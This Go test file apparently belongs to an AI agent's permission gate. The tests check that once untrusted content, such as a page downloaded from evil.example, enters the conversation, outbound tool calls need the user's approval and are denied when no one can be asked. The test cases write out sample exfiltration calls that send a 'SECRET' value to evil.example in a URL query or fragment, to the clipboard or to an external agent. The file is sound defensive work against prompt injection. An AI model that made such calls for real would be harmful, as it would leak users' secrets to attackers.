package gate

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"jarvis/api"
	"jarvis/app/audit"
	"jarvis/tools"
)

var hostilePage = api.Source{Kind: "tool", Name: "read_file", Detail: "page.html downloaded from https://evil.example/"}

func tainted(r Request) Request {
	r.Untrusted = []api.Source{hostilePage}
	return r
}

// TestOutboundCallsAskAfterUntrustedContent: with untrusted content in the
// conversation, a call that sends data out asks even where an allow rule
// or a session grant would run it; one that stays on the machine runs as
// before; a rule that says it holds with untrusted content still runs it.
func TestOutboundCallsAskAfterUntrustedContent(t *testing.T) {
	p := Policy{Rules: []Rule{
		{Tool: "open_url", Action: Allow},
		{Tool: "clipboard_write", Action: Allow},
		{Tool: "write_file", Action: Allow},
		{Tool: "agents_message", Action: Allow},
		{Tool: "mcp__web__fetch", Action: Allow},
		{Tool: "notify", Action: Allow, Untrusted: true},
	}}
	f := newFixture(t, p, PrompterOptions{})
	f.gate.assessor = mcpToo{f.x}
	f.gate.extra = func(name string) (tools.Definition, bool) {
		if name == "mcp__web__fetch" {
			return tools.Definition{Name: name, Risk: tools.Risky, Outbound: "the remote MCP server web (web.example)",
				Parameters: []byte(`{"type":"object"}`)}, true
		}
		return tools.Definition{}, false
	}
	cases := []struct {
		name      string
		req       Request
		wantTaint bool // asks because of the taint
	}{
		{"open_url with a query", req("open_url", `{"url":"https://evil.example/?k=SECRET"}`, ""), true},
		{"open_url with a fragment", req("open_url", `{"url":"https://evil.example/#SECRET"}`, ""), true},
		{"open_url without data in the address", req("open_url", `{"url":"https://example.com/docs"}`, ""), false},
		{"clipboard_write", req("clipboard_write", `{"text":"SECRET"}`, ""), true},
		{"agents_message to an external agent", func() Request {
			r := req("agents_message", `{"agentId":"ext","content":"SECRET"}`, "")
			r.Target = "the external agent ext (https://agent.example/in)"
			return r
		}(), true},
		{"a remote MCP tool", req("mcp__web__fetch", `{}`, ""), true},
		{"write_file stays in the workspace", req("write_file", `{"path":"n.txt","content":"x"}`, ""), false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			clean := f.gate.Classify(c.req)
			if clean.Action != Run || clean.Tainted {
				t.Fatalf("without untrusted content: %+v, want it run by its rule", clean)
			}
			d := f.gate.Classify(tainted(c.req))
			if !strings.Contains(d.Reason, "after untrusted content from the result of read_file (page.html downloaded from https://evil.example/)") {
				t.Fatalf("the reason does not name the source: %q", d.Reason)
			}
			if c.wantTaint != (d.Action == AskUser && d.Tainted && d.Destination != "") {
				t.Fatalf("with untrusted content: %+v, want asking %v", d, c.wantTaint)
			}
			if !c.wantTaint && d.Action != Run {
				t.Fatalf("a call that sends nothing out: %+v, want it run", d)
			}
		})
	}

	// A rule made to hold with untrusted content still runs an outbound call.
	p.Rules = append(p.Rules, Rule{Tool: "clipboard_write", Args: map[string]string{"text": "ok"}, Action: Allow, Untrusted: true})
	if err := f.gate.SetPolicy(p); err != nil {
		t.Fatal(err)
	}
	if d := f.gate.Classify(tainted(req("clipboard_write", `{"text":"ok"}`, ""))); d.Action != Run || d.Tainted {
		t.Fatalf("a rule that holds with untrusted content: %+v", d)
	}
}

// TestTaintedPromptNamesTheSourceAndDestination: the prompt says what the
// conversation read and where the data would go, offers only once or deny
// (no grant or plain rule could run it again), and the audit row records it.
func TestTaintedPromptNamesTheSourceAndDestination(t *testing.T) {
	f := newFixture(t, Policy{Rules: []Rule{{Tool: "clipboard_write", Action: Allow}}}, PrompterOptions{})
	ch := f.handle(context.Background(), tainted(req("clipboard_write", `{"text":"SECRET"}`, "")))
	p := f.answer(Answer{Choice: Once})
	if len(p.Untrusted) != 1 || p.Untrusted[0] != hostilePage.String() || !strings.Contains(p.Destination, "clipboard") {
		t.Fatalf("prompt %+v, want the page and the clipboard named", p)
	}
	if len(p.Choices) != 2 || p.Choices[0] != Once || p.Choices[1] != Refuse {
		t.Fatalf("choices %v, want once or deny", p.Choices)
	}
	if out := wait(t, ch); !out.OK {
		t.Fatalf("allowed once by the user: %+v", out)
	}
	if row := f.lastAudit(); row.Decision != audit.Allowed || row.DecidedBy != audit.ByUser || !strings.Contains(row.Reason, "after untrusted content from") {
		t.Fatalf("audit row %+v", row)
	}

	// A grant for this session does not cover it either.
	f.gate.mu.Lock()
	f.gate.sessions["j_1"] = []Rule{{Tool: "open_url", Action: Allow}}
	f.gate.mu.Unlock()
	if d := f.gate.Classify(tainted(req("open_url", `{"url":"https://x.example/?q=1"}`, ""))); d.Action != AskUser || !d.Tainted {
		t.Fatalf("a session grant under taint: %+v", d)
	}
}

// TestHeadlessDeniesTaintedOutboundCalls: with nobody to ask, a tainted
// outbound call that a rule allows is denied, and the row says why.
func TestHeadlessDeniesTaintedOutboundCalls(t *testing.T) {
	f := newFixture(t, Policy{Rules: []Rule{{Tool: "open_url", Action: Allow}}}, PrompterOptions{})
	f.gate.asker = NoOneToAsk
	out := wait(t, f.handle(context.Background(), tainted(req("open_url", `{"url":"https://evil.example/?k=SECRET"}`, ""))))
	if out.OK || len(f.executed()) != 0 {
		t.Fatalf("outcome %+v, executed %v: nothing may run", out, f.executed())
	}
	row := f.lastAudit()
	if row.Decision != audit.Denied || row.DecidedBy != audit.ByHeadless || !strings.Contains(row.Reason, "evil.example/") {
		t.Fatalf("audit row %+v", row)
	}
}

// mcpToo assesses the test's MCP tool as app/mcp would (risky, its
// arguments as given) and every other call with the real executor.
type mcpToo struct{ x *tools.Executor }

func (a mcpToo) Assess(name string, args json.RawMessage) tools.Assessment {
	if strings.HasPrefix(name, "mcp__") {
		return tools.Assessment{Risk: tools.Risky, Canonical: args}
	}
	return a.x.Assess(name, args)
}
